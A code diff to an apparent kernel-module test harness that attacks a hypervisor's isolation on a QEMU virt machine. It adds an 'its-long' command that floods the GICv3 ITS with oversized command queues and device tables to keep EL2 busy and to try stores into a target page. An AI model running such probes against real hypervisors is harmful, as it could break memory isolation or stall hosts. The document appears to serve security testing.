@@ -21,6 +21,7 @@
  *   gic PAGE             tell the interrupt controller (a QEMU virt machine's GICv3) that its tables and commands lie there; 0: in memory of ours
  *   its-map PAGE         tell its ITS that a device's interrupt translation table lies there, and have an entry written; 0: in memory of ours
  *   its-table PAGE       the same, by a store to the ITS's own table of devices, which is then named once more
+ *   its-long             give the ITS as much at a time as may be: queues, tables, commands
  *
  * An attempt runs with all interrupts masked, under exception vectors and a TTBR0 map of our own, so that whatever it raises is a result and no
  * oops. The map is one window of two pages: WINDOW is a page of the host's, the page after it what is attacked. Where the kernel uses
@@ -83,6 +84,13 @@
 #define MAPTI		0x0aUL
 #define DEVICE		0x40UL			/* one that the machine has not */
 #define EVENT_BITS	5UL
+#define MOST_EVENT_BITS	16UL
+#define MAPC		0x09UL
+#define QUEUE_ORDER	8			/* 1 MiB, the largest queue */
+#define TABLE_ORDER	10			/* 4 MiB */
+#define QUEUE_PAGES	255UL			/* less one, as GITS_CBASER has them */
+#define TABLE_PAGES	(2UL << 8 | 63UL)	/* the same of 64 KiB each, GITS_BASER */
+#define COMMANDS	256
 #define INTERRUPT	8200UL
 /* An entry of the table of devices as QEMU's ITS keeps it (hw/intc/gicv3_internal.h): valid, bits of an event less one, address */
 #define DEVICE_ENTRY(at)	(1UL | (EVENT_BITS - 1) << 1 | (at) >> 8 << 6)
@@ -777,6 +785,53 @@ static void name_to_its(bool by_table, u64 page)
 	free_page((unsigned long)own);
 }
 
+/* Each store as it is made by one that wants EL2 to be long at it; in between the kernel's interrupts. */
+static void give_much(void)
+{
+	void __iomem *its = ioremap(ITS, PAGE_SIZE);
+	u64 *queues[2] = { (u64 *)__get_free_pages(GFP_KERNEL | __GFP_ZERO, QUEUE_ORDER), (u64 *)__get_free_pages(GFP_KERNEL | __GFP_ZERO, QUEUE_ORDER) };
+	u64 *tables[2] = { (u64 *)__get_free_pages(GFP_KERNEL | __GFP_ZERO, TABLE_ORDER), (u64 *)__get_free_pages(GFP_KERNEL | __GFP_ZERO, TABLE_ORDER) };
+	u64 queue_before, table_before;
+	int i;
+
+	if (!its || !queues[0] || !queues[1] || !tables[0] || !tables[1]) {
+		say("its-long: no memory for it");
+		return;
+	}
+	writel(0, its);
+	queue_before = readq(its + ITS_CBASER);
+	table_before = readq(its + ITS_DEVICES);
+	for (i = 0; i < 4; i++)
+		writeq(virt_to_phys(queues[i & 1]) | ITS_VALID | QUEUE_PAGES, its + ITS_CBASER);
+	writeq(virt_to_phys(queues[0]) | ITS_VALID | QUEUE_PAGES, its + ITS_CBASER);
+	for (i = 0; i < 3; i++)
+		writeq(virt_to_phys(tables[i & 1]) | ITS_VALID | TABLE_PAGES, its + ITS_DEVICES);
+	say("its-long: named %s", readq(its + ITS_CBASER) >> 63 && readq(its + ITS_DEVICES) >> 63 ? "all" : "not all");
+	/* One device's table after the other, each as large as may be; then for others, whose tables lie in one place; then what is refused last. */
+	for (i = 0; i < COMMANDS; i++) {
+		u64 *words = queues[0] + i * 4;
+
+		words[0] = i < 240 ? MAPD | (i < 32 ? 0 : (u64)i) << 32 : MAPC;
+		words[1] = MOST_EVENT_BITS - 1;
+		words[2] = i < 240 ? virt_to_phys(queues[1]) + (i & 1) * 256 * 512 | ITS_VALID : 0xffff0000UL | ITS_VALID;
+	}
+	writeq(0, its + ITS_CWRITER);
+	writel(1, its);
+	writeq(COMMANDS * 32, its + ITS_CWRITER);
+	say("its-long: read %llx of %x", readq(its + ITS_CREADR), COMMANDS * 32);
+	attempt(op_store, TARGET, 0, virt_to_phys(tables[0]), 0, 0);
+	say("its-long: control %x table %s", readl(its), readq(its + ITS_DEVICES) >> 63 ? "named" : "given back");
+	writel(0, its);
+	writeq(table_before, its + ITS_DEVICES);
+	writeq(queue_before, its + ITS_CBASER);
+	writel(1, its);
+	iounmap(its);
+	for (i = 0; i < 2; i++) {
+		free_pages((unsigned long)queues[i], QUEUE_ORDER);
+		free_pages((unsigned long)tables[i], TABLE_ORDER);
+	}
+}
+
 static int command(char *line)
 {
 	u64 x[8] = {};
@@ -814,6 +869,8 @@ static int command(char *line)
 		name_to_gic(x[0]);
 	else if (!strcmp(name, "its-map") || !strcmp(name, "its-table"))
 		name_to_its(!strcmp(name, "its-table"), x[0]);
+	else if (!strcmp(name, "its-long"))
+		give_much();
 	else {
 		for (way = 0; way < ARRAY_SIZE(ways) && strcmp(name, ways[way].name); way++)
 			;
